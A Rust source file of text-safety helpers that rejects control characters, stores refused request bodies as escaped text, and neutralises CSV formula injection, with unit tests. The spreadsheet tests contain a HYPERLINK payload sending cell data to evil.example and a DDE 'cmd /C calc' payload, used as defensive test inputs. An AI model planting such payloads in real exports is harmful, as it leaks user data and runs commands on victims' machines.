//! Text as we accept and keep it: no C0 control characters (PostgreSQL cannot store NUL in
//! text at all, and none of them belongs in a name or an id), and stored copies of bodies
//! we refused that hold any bytes at all.

use serde_json::Value;

/// Writes a value as its JSON text (for `Display` of types shown the way the API writes
/// them: money, business hours).
pub fn write_json(
    f: &mut std::fmt::Formatter<'_>,
    value: &impl serde::Serialize,
) -> std::fmt::Result {
    let json = serde_json::to_string(value).map_err(|_| std::fmt::Error)?;
    f.write_str(&json)
}

/// Why `s` is not acceptable text, if it is not: a C0 control character (U+0000..U+001F)
/// or DEL, except tab, line feed and carriage return where `multiline` allows them.
pub fn control_problem(s: &str, multiline: bool) -> Option<String> {
    let bad = s
        .chars()
        .find(|&c| (c < ' ' || c == '\u{7f}') && !(multiline && matches!(c, '\t' | '\n' | '\r')))?;
    Some(format!(
        "must not contain control characters (found U+{:04X})",
        u32::from(bad)
    ))
}

/// The first problem in any string of a JSON value (object keys included).
pub fn control_problem_in(v: &Value, multiline: bool) -> Option<String> {
    match v {
        Value::String(s) => control_problem(s, multiline),
        Value::Array(a) => a.iter().find_map(|x| control_problem_in(x, multiline)),
        Value::Object(m) => m.iter().find_map(|(k, x)| {
            control_problem(k, false).or_else(|| control_problem_in(x, multiline))
        }),
        _ => None,
    }
}

/// Most of a refused body we keep: enough to see what was sent, not a store for junk.
pub const MAX_KEPT_BODY: usize = 16 * 1024;

/// A refused body as text that any database stores: valid UTF-8 is kept as it is, except
/// NUL, which is written `\0`; bytes that are not UTF-8 are written `\xNN`. Bodies over
/// [`MAX_KEPT_BODY`] are cut there, and the cut says how much was left out.
pub fn storable_body(bytes: &[u8]) -> String {
    let kept = &bytes[..bytes.len().min(MAX_KEPT_BODY)];
    let mut out = String::with_capacity(kept.len());
    for chunk in kept.utf8_chunks() {
        for c in chunk.valid().chars() {
            if c == '\0' {
                out.push_str("\\0");
            } else {
                out.push(c);
            }
        }
        for b in chunk.invalid() {
            out.push_str(&format!("\\x{b:02X}"));
        }
    }
    if bytes.len() > kept.len() {
        out.push_str(&format!(
            "\n[{} more bytes not kept]",
            bytes.len() - kept.len()
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn control_characters_are_named_and_multiline_text_keeps_its_lines() {
        assert_eq!(
            control_problem("Ab\u{0}cd", true).as_deref(),
            Some("must not contain control characters (found U+0000)")
        );
        assert!(control_problem("line\u{1b}[31m", true).is_some());
        assert!(control_problem("a\tb\nc\r\n", true).is_none());
        assert!(control_problem("a\tb", false).is_some());
        assert!(control_problem("Zoë Ünal – ok", false).is_none());
        assert!(control_problem_in(&json!({"a": ["x", {"b": "y\u{0}"}]}), true).is_some());
        assert!(control_problem_in(&json!({"k\u{0}": "v"}), true).is_some());
        assert!(control_problem_in(&json!({"a": [1, true, null, "fine\n"]}), true).is_none());
    }

    #[test]
    fn any_bytes_become_storable_text_and_long_bodies_are_cut() {
        assert_eq!(storable_body(b"{\"a\": 1}"), "{\"a\": 1}");
        assert_eq!(storable_body(b"a\x00b\xffc"), "a\\0b\\xFFc");
        assert_eq!(storable_body("née".as_bytes()), "née");
        let big = vec![b'x'; MAX_KEPT_BODY + 10];
        let kept = storable_body(&big);
        assert!(kept.starts_with(&"x".repeat(MAX_KEPT_BODY)));
        assert!(kept.ends_with("[10 more bytes not kept]"));
        assert!(!kept.contains('\0'));
    }
}

/// A cell of a CSV export as spreadsheet programs open it safely: a cell that begins with
/// `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a formula (a
/// `HYPERLINK` that sends the neighbouring cells away, a DDE command), so it gets a leading
/// `'`, which the programs take as "text" and do not show. A phone `+49...` stays readable
/// (and is no longer turned into a number).
pub fn spreadsheet_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

#[cfg(test)]
mod spreadsheet_tests {
    use super::spreadsheet_cell;

    #[test]
    fn formula_triggers_are_neutralised_and_plain_text_is_kept() {
        for (given, exported) in [
            (
                "=HYPERLINK(\"https://evil.example/?\"&F2)",
                "'=HYPERLINK(\"https://evil.example/?\"&F2)",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("+4915155550000", "'+4915155550000"),
            ("Erika", "Erika"),
            ("", ""),
            ("a=b", "a=b"),
        ] {
            assert_eq!(spreadsheet_cell(given), exported, "{given:?}");
        }
    }
}
